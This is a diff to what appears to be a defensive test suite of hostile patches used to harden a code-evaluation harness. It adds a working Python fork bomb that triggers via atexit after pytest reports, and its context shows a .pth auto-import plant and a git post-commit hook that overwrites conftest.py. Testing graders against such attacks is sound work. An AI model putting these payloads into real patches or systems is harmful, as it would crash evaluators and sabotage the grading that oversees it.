@@ -108,6 +108,27 @@ for _path, _text in PLANTS.items():
         pass
 '''
 
+# After pytest wrote its report, processes that hold the process limit and never end (so no new process, not even
+# the harness's own, can start in the container); in the evaluator's process only.
+LATE_FORK_BOMB = '''
+import atexit as _a, os as _o, sys as _s
+
+
+def _bomb():
+    if _o.fork() == 0:
+        _o.closerange(0, 256)
+        _o.setsid()
+        while True:
+            try:
+                _o.fork()
+            except OSError:
+                pass
+
+
+if "addopts=" in _s.argv:
+    _a.register(_bomb)
+'''
+
 ISOLATION_PROBE = '''
 import os as _os
 _lines = []
@@ -181,7 +202,7 @@ def _line(name: str, patch: str | None, **extra: Any) -> dict[str, Any]:
 
 
 def payloads(make: PatchMaker) -> list[Payload]:
-    """Every hostile prediction of the suite (39), each built fresh from the demo's base."""
+    """Every hostile prediction of the suite (40), each built fresh from the demo's base."""
     d = make.diff
     plugin_files = {"evil_plugin.py": EVIL_PLUGIN}
     found: list[Payload] = []
@@ -247,6 +268,7 @@ def payloads(make: PatchMaker) -> list[Payload]:
             "            _h.write(_chunk)\nexcept OSError as _e:\n    print('FILL stopped', type(_e).__name__)\n")
     final("fill-work-tree", 7, d(_appended(CORE, fill)))
     final("isolation-probe", 7, d(_appended(CORE, ISOLATION_PROBE)))
+    final("fork-bomb-after-the-report", 7, d(_appended(CORE, LATE_FORK_BOMB)))
     # 4. State carried between checkpoint states, and attacks in agents' patches.
     runtime_plants = {"/usr/lib/python3/dist-packages/evil.pth": "import evil_plugin\n",
                       "/testbed/.git/hooks/post-commit": "#!/bin/sh\ncp /testbed/evil_plugin.py /testbed/conftest.py\n",
